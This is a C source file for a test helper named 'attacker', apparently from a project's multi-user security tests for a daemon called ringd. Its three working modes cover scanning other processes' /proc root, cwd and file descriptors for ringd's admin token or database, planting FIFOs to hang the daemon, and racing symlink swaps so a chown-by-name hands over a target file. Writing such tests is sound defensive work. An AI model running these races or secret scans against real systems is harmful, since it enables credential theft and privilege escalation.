/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attacker - what a hostile job (or any process of a job's user) does against ringd, as
 * fast as a program can, for the multi-user tests (multiuser_jobs.sh, slurm_multiuser.sh).
 * Each mode prints a line starting "LEAK" or "PLANTED" for every success and a summary
 * line "tried N" at the end; the test decides what a success means.
 *
 *   attacker procroot DATA SECONDS
 *       Looks into every process it can see, the newest first (the pids just below and
 *       above /proc/sys/kernel/ns_last_pid, over and over, and now and then all of /proc):
 *       /proc/PID/root/DATA/admin.token, /proc/PID/cwd/admin.token, and each open file of
 *       /proc/PID/fd/. A ringd-exec that runs as the job's user in ringd's mount namespace
 *       shows ringd's data there until it has isolated itself. Says first how many
 *       processes it sees ("visible N").
 *   attacker fifo RUNS SECONDS
 *       For every job directory that appears in RUNS (ringd's runs/), plants a FIFO as
 *       JOB/1/ringrun.log the moment the attempt's directory becomes the user's: a ringd
 *       that opens the log by name after giving the directory away blocks on it.
 *   attacker swap RUNS TARGET SECONDS
 *       For every attempt directory that appears in RUNS/JOB/ and becomes the user's,
 *       renames each rank.N that appears in it aside and puts a link to TARGET in its place:
 *       a ringd that makes rank.N and then chowns it by name gives TARGET away.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* How many job directories one run follows at once; a test submits a few dozen jobs. */
#define MAX_JOBS 256
/* The rank directories a swap tries per attempt (the tests' jobs have at most 16 ranks). */
#define MAX_RANKS 16
/* How long a job directory is followed after it appears, in seconds: ringd makes the
 * attempt's directories within milliseconds of making the job's. */
#define FOLLOW_S 5.0

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Reads up to len-1 bytes of path, a regular file (ringd's secrets are files; reading a
 * pipe of /proc/PID/fd would take another process's output); 1 when it could. */
static int peek(const char *path, char *buf, size_t len)
{
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    struct stat sb;
    ssize_t n;
    if (fd < 0)
        return 0;
    if (fstat(fd, &sb) < 0 || !S_ISREG(sb.st_mode)) {
        close(fd);
        return 0;
    }
    n = read(fd, buf, len - 1);
    close(fd);
    if (n < 0)
        return 0;
    buf[n] = '\0';
    return 1;
}

/* 1 when text is ringd's: the admin token, or the database. */
static int secret(const char *text)
{
    return strncmp(text, "ringd_", 6) == 0 || strncmp(text, "SQLite format 3", 15) == 0;
}

static long tried;

static int look_into(long pid, const char *data)
{
    char path[PATH_MAX], buf[64];
    int found = 0;
    snprintf(path, sizeof(path), "/proc/%ld/root%s/admin.token", pid, data);
    tried++;
    if (peek(path, buf, sizeof(buf)) && secret(buf))
        found = printf("LEAK %s: %.12s...\n", path, buf) > 0;
    snprintf(path, sizeof(path), "/proc/%ld/cwd/admin.token", pid);
    if (peek(path, buf, sizeof(buf)) && secret(buf))
        found = printf("LEAK %s: %.12s...\n", path, buf) > 0;
    for (int fd = 0; fd < 16; fd++) {
        snprintf(path, sizeof(path), "/proc/%ld/fd/%d", pid, fd);
        if (peek(path, buf, sizeof(buf)) && secret(buf))
            found = printf("LEAK %s: %.12s...\n", path, buf) > 0;
    }
    return found;
}

/* How many processes this process can see in /proc. */
static long visible(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    long n = 0;
    while (d != NULL && (e = readdir(d)) != NULL)
        n += atol(e->d_name) > 0;
    if (d != NULL)
        closedir(d);
    return n;
}

static int procroot(const char *data, double seconds)
{
    double end = now() + seconds;
    long leaks = 0, self = getpid(), round = 0;
    printf("visible %ld\n", visible());
    while (now() < end && leaks == 0) {
        char text[32];
        long last = peek("/proc/sys/kernel/ns_last_pid", text, sizeof(text)) ? atol(text) : 0;
        for (long pid = last - 8; pid <= last + 24; pid++)
            if (pid > 1 && pid != self)
                leaks += look_into(pid, data);
        if (++round % 200 == 0) { /* everything, now and then */
            DIR *d = opendir("/proc");
            struct dirent *e;
            while (d != NULL && (e = readdir(d)) != NULL)
                if (atol(e->d_name) > 1 && atol(e->d_name) != self)
                    leaks += look_into(atol(e->d_name), data);
            if (d != NULL)
                closedir(d);
        }
    }
    printf("tried %ld\n", tried);
    return 0;
}

/* The job directories of RUNS that appeared, and when. */
struct follow {
    char name[64];
    double since;
    int done;
};

/* New entries of the inotify descriptor into jobs[]. */
static void new_jobs(int in, struct follow *jobs, int *n)
{
    char buf[8192] __attribute__((aligned(8)));
    ssize_t len = read(in, buf, sizeof(buf));
    for (char *p = buf; len > 0 && p < buf + len;) {
        struct inotify_event *ev = (struct inotify_event *)p;
        if ((ev->mask & IN_CREATE) && ev->len > 0 && *n < MAX_JOBS) {
            snprintf(jobs[*n].name, sizeof(jobs[*n].name), "%s", ev->name);
            jobs[*n].since = now();
            jobs[*n].done = 0;
            (*n)++;
        }
        p += sizeof(*ev) + ev->len;
    }
}

static int fifo(const char *runs, double seconds)
{
    struct follow jobs[MAX_JOBS];
    int in = inotify_init1(IN_NONBLOCK), n = 0;
    double end = now() + seconds;
    if (in < 0 || inotify_add_watch(in, runs, IN_CREATE) < 0)
        return perror(runs), 1;
    while (now() < end) {
        new_jobs(in, jobs, &n);
        for (int i = 0; i < n; i++) {
            char path[PATH_MAX];
            if (jobs[i].done || now() > jobs[i].since + FOLLOW_S)
                continue;
            snprintf(path, sizeof(path), "%.3000s/%.63s/1/ringrun.log", runs, jobs[i].name);
            tried++;
            if (mkfifo(path, 0666) == 0) {
                printf("PLANTED %s\n", path);
                jobs[i].done = 1;
            } else if (errno == EEXIST) {
                /* A log ringd made before the directory was the user's: the user may remove
                 * it, and the next round plants the FIFO where it was. */
                unlink(path);
            }
        }
    }
    printf("tried %ld\n", tried);
    return 0;
}

/* In attempt directory dir (now the user's), each rank.N swapped for a link to target. */
static void swap_ranks(const char *dir, const char *target, int *swapped)
{
    for (int r = 0; r < MAX_RANKS; r++) {
        char path[PATH_MAX], aside[PATH_MAX];
        if (swapped[r])
            continue;
        snprintf(path, sizeof(path), "%.3900s/rank.%d", dir, r);
        snprintf(aside, sizeof(aside), "%.3900s/.aside.%d", dir, r);
        tried++;
        if (rename(path, aside) == 0 && symlink(target, path) == 0) {
            swapped[r] = 1;
            printf("PLANTED %s\n", path);
            fflush(stdout);
        }
    }
}

static int swap(const char *runs, const char *target, double seconds)
{
    static int swapped[MAX_JOBS][MAX_RANKS];
    struct follow jobs[MAX_JOBS];
    int in = inotify_init1(IN_NONBLOCK), n = 0;
    double end = now() + seconds;
    if (in < 0 || inotify_add_watch(in, runs, IN_CREATE) < 0)
        return perror(runs), 1;
    while (now() < end) {
        new_jobs(in, jobs, &n);
        for (int i = 0; i < n; i++) {
            char dir[PATH_MAX];
            if (now() > jobs[i].since + FOLLOW_S)
                continue;
            snprintf(dir, sizeof(dir), "%.3000s/%.63s/1", runs, jobs[i].name);
            swap_ranks(dir, target, swapped[i]);
        }
    }
    printf("tried %ld\n", tried);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 4 && strcmp(argv[1], "procroot") == 0)
        return procroot(argv[2], atof(argv[3]));
    if (argc == 4 && strcmp(argv[1], "fifo") == 0)
        return fifo(argv[2], atof(argv[3]));
    if (argc == 5 && strcmp(argv[1], "swap") == 0)
        return swap(argv[2], argv[3], atof(argv[4]));
    fprintf(stderr, "usage: attacker procroot DATA SECONDS | fifo RUNS SECONDS | "
                    "swap RUNS TARGET SECONDS\n");
    return 2;
}
